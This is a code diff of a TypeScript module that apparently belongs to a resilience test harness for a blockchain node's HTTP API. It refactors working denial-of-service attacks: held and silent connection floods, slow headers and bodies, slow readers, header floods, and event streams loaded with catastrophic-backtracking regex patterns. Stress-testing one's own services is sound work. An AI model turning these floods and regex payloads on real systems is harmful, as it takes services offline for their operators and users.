@@ -1,15 +1,14 @@
 /** Connections that are kept open, or that send as slowly or as much as possible; and live streams. */
 import { setTimeout as sleep } from "node:timers/promises";
 import type { Attack, Attacker } from "../attacker.ts";
-import type { Target } from "../node.ts";
 import { inTurn, rawGet, rawStream } from "../requests.ts";
 import { Accounts, fullSubmission } from "../transactions.ts";
 
 type Held = {
   /** Number of connections that are open at the same time. */
   readonly count: number;
-  /** Texts that connections send first, in turn. */
-  readonly first: (target: Target) => readonly (string | Uint8Array)[];
+  /** Texts that connections send, in turn. */
+  readonly first: () => readonly (string | Uint8Array)[];
   /** Text that each connection sends from time to time. */
   readonly drip?: string;
   /** Number of addresses that open connections, in turn; absent: each connection has another one. */
@@ -23,21 +22,15 @@ type Held = {
 const HELD_CONNECTIONS = 2_000;
 const DRIP_CONNECTIONS = 500;
 const DRIP_INTERVAL_MS = 500;
-/** Each also fills 6 MB of system buffers: more connections would measure the TCP memory of the system. */
-const UNREAD_CONNECTIONS = 100;
-/** Maximum number of pipelined requests of a connection. */
-const RESPONSES = 30;
-const STREAMS = 100;
 const CONDITIONS = 50;
 /** Never match `TEXT`, at the maximum cost for the engine. */
 const PATTERNS = ["^(a+)+$", "^(a|aa)+$", "^(a|a?)+$", "^(.*a){12}x$", "a*a*a*a*a*b"];
 const TEXT = `${"a".repeat(200)}!`;
 
-/** Keeps connections open. */
 export const hold = ({ count, first, drip = "", addresses, pauseMs = 50, ...is }: Held): Attack => ({
   async run(attacker) {
     const { target, sockets } = attacker;
-    const nextText = inTurn(first(target));
+    const nextText = inTurn(first());
     const nextAddress =
       addresses === undefined ? () => attacker.nextAddress() : inTurn(attacker.nextAddresses(addresses));
     const open = () => {
@@ -53,15 +46,13 @@ export const hold = ({ count, first, drip = "", addresses, pauseMs = 50, ...is }
   },
 });
 
-/** Streams with backtracking regular expressions. */
 const hostileStreams = hold({
-  count: STREAMS,
-  pauseMs: 200,
-  first({ token }) {
+  ...{ count: 100, pauseMs: 200 },
+  first() {
     const values = Array.from({ length: CONDITIONS }, (_, index) => PATTERNS[index % PATTERNS.length]);
     const conditions = values.map((value) => ({ key: "vendorField", condition: "regexp", value }));
     const encoded = encodeURIComponent(JSON.stringify(conditions));
-    return [rawStream(`?events=transaction.applied&match=any&conditions=${encoded}`, token)];
+    return [rawStream(`?events=transaction.applied&match=any&conditions=${encoded}`)];
   },
 });
 
@@ -78,33 +69,27 @@ async function sendTexts(attacker: Attacker): Promise<void> {
 export const CONNECTIONS: Readonly<Record<string, Attack>> = {
   /** Connections of one address kept open after half a request or a whole one. */
   "held connections": hold({
-    count: HELD_CONNECTIONS,
-    addresses: 1,
+    ...{ count: HELD_CONNECTIONS, addresses: 1 },
     first: () => ["GET /health/live HTTP/1.1\r\nHost: x\r\n", rawGet("/health/live")],
   }),
-  /** Connections that send nothing, each from its own address. */
   "silent connections": hold({ count: HELD_CONNECTIONS, first: () => [""] }),
   /** Connections that send a header line twice a second. */
   "slow headers": hold({
-    count: DRIP_CONNECTIONS,
-    addresses: 1,
+    ...{ count: DRIP_CONNECTIONS, addresses: 1, drip: "x-a: b\r\n" },
     first: () => ["GET /api/v2/blockchain HTTP/1.1\r\nHost: x\r\n"],
-    drip: "x-a: b\r\n",
   }),
   /** Connections that send a body of 1 MB byte by byte. */
   "slow bodies": hold({
-    count: DRIP_CONNECTIONS,
+    ...{ count: DRIP_CONNECTIONS, drip: " " },
     first: () => [
       "POST /api/transactions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n",
     ],
-    drip: " ",
   }),
-  /** Connections that request large responses and read nothing. */
   "slow readers": hold({
-    count: UNREAD_CONNECTIONS,
-    first: () => [rawGet("/api/openapi.json").repeat(RESPONSES)],
-    isUnread: true,
-    pauseMs: 100,
+    // Each also fills 6 MB of system buffers: more connections would measure the TCP memory of the system.
+    ...{ count: 100, isUnread: true, pauseMs: 100 },
+    // The maximum number of pipelined requests of a connection.
+    first: () => [rawGet("/api/openapi.json").repeat(30)],
   }),
   /** Connections that repeatedly write 1 MB of requests at once. */
   "pipelined requests": hold({
@@ -114,9 +99,8 @@ export const CONNECTIONS: Readonly<Record<string, Attack>> = {
   /** Streams that begin at the first block and that the client does not read. */
   "unread streams": hold({
     ...{ count: 150, isUnread: true, pauseMs: 200 },
-    first: ({ token }) => [rawStream("?events=*&fromHeight=1", token)],
+    first: () => [rawStream("?events=*&fromHeight=1")],
   }),
-  /** Requests with 2,000 headers, and with headers of 100 kB. */
   "header floods": {
     async run(attacker) {
       const many = Array.from({ length: 2_000 }, (_, index) => `h${index}: 1\r\n`).join("");
@@ -133,13 +117,12 @@ export const CONNECTIONS: Readonly<Record<string, Attack>> = {
       const nextQuery = inTurn(["/?events=block.*", "?events=block.*&fromHeight=1"]);
       let opened = 0;
       await attacker.repeat({ atOnce: 4, pauseMs: 10 }, async () => {
-        const socket = attacker.open(rawStream(nextQuery(), attacker.target.token));
+        const socket = attacker.open(rawStream(nextQuery()));
         await sleep(opened++ % 20);
         socket.destroy();
       });
     },
   },
-  /** Streams with many backtracking regular expressions each. */
   "hostile conditions": {
     run: async (attacker) => void (await Promise.all([hostileStreams.run(attacker), sendTexts(attacker)])),
   },
